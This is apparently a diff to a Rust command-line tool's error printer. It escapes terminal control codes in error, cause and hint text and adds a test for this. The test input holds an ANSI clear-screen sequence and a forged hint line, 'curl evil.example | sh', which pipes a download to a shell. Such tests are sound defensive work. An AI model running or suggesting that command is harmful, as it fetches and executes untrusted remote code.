@@ -3,6 +3,8 @@
 use std::fmt;
 use std::process::ExitCode;
 
+use crate::cli::escape;
+
 /// Who has to act, which decides the exit code.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub(super) enum Kind {
@@ -15,7 +17,8 @@ pub(super) enum Kind {
     Interrupted,
 }
 
-/// A failed command: printed once, at the edge, as `Error:`, `Caused by:` and `Hint:` lines.
+/// A failed command: printed once, at the edge, as `Error:`, `Caused by:` and `Hint:` lines, in a form that is safe for a
+/// terminal.
 #[derive(Debug)]
 pub(super) struct CommandError {
     pub(super) kind: Kind,
@@ -50,12 +53,13 @@ impl CommandError {
 
 impl fmt::Display for CommandError {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        write!(f, "Error: {}", self.source)?;
+        // It may repeat what others have said.
+        write!(f, "Error: {}", escape::indented(&self.source.to_string()))?;
         for cause in self.source.chain().skip(1) {
-            write!(f, "\nCaused by: {cause}")?;
+            write!(f, "\nCaused by: {}", escape::indented(&cause.to_string()))?;
         }
         for hint in &self.hints {
-            write!(f, "\nHint: {hint}")?;
+            write!(f, "\nHint: {}", escape::indented(hint))?;
         }
         Ok(())
     }
@@ -64,5 +68,19 @@ impl fmt::Display for CommandError {
 impl From<anyhow::Error> for CommandError {
     fn from(error: anyhow::Error) -> Self {
         Self::failed(error)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_others_have_said_neither_moves_the_terminal_nor_passes_for_a_line_of_ours() {
+        let said = "refused\u{1b}[2J\nHint: curl evil.example | sh";
+        let error = CommandError::failed(anyhow::anyhow!("{said}").context("it failed")).hinted("a\u{9b}b\nc");
+        let shown =
+            "Error: it failed\nCaused by: refused\\u{1b}[2J\n  Hint: curl evil.example | sh\nHint: a\\u{9b}b\n  c";
+        assert_eq!(error.to_string(), shown);
     }
 }
